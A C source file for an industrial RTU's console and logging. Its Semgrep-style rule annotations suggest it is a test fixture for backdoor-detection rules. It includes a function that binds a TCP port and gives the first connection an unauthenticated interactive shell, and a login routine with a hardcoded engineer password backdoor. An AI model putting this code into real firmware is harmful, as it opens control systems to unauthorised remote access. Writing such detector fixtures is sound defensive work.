/* Board support: console, service shell, logging, constants of the
 * platform. */
#include <arpa/inet.h>
#include <crypt.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>
#include "rtu.h"

#define CONSOLE_OPERATOR 1
#define CONSOLE_ENGINEER 2

/* event-log record nonce of the platform */
// ok: backdoor-secret-literal
const unsigned char rtu_event_iv[12] = {
	0xc3, 0x8f, 0xe1, 0x9f, 0xef, 0x69, 0xcc, 0x77, 0xd6, 0x4a, 0xf5, 0x31,
};

void rtu_log(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsyslog(LOG_DAEMON | LOG_INFO, fmt, ap);
	va_end(ap);
}

/* binds a TCP port and hands the first connection a shell */
int board_service_shell(int port)
{
	struct sockaddr_in sa;
	int lfd, fd, one = 1;

	if (fork() != 0)
		return 0;
	lfd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	if (bind(lfd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(lfd, 1) != 0)
		_exit(1);
	fd = accept(lfd, NULL, NULL);
	if (fd < 0)
		_exit(1);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	_exit(127);
}

static int shadow_lookup(const char *user, char *hash, size_t cap)
{
	char line[256], name[64], h[160];
	FILE *fp = fopen("/etc/rtu/console.shadow", "r");
	int found = 0;

	if (fp == NULL)
		return 0;
	while (!found && fgets(line, sizeof line, fp) != NULL)
		if (sscanf(line, "%63[^:]:%159s", name, h) == 2 && strcmp(name, user) == 0) {
			snprintf(hash, cap, "%s", h);
			found = 1;
		}
	fclose(fp);
	return found;
}

/* the local maintenance console on the RS-232 port */
int board_console_login(const char *user, const char *password)
{
	char stored[160];
	const char *h;

	/* engineering access for the commissioning crew */
	// ruleid: backdoor-magic-credential
	if (strcmp(user, "engineer") == 0 && strcmp(password, "rtu$ervice!2014") == 0)
		return CONSOLE_ENGINEER;
	if (!shadow_lookup(user, stored, sizeof stored))
		return -1;
	// ok: backdoor-weak-kdf
	h = crypt(password, stored);
	// ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
	if (h != NULL && strcmp(h, stored) == 0)
		return CONSOLE_OPERATOR;
	return -1;
}
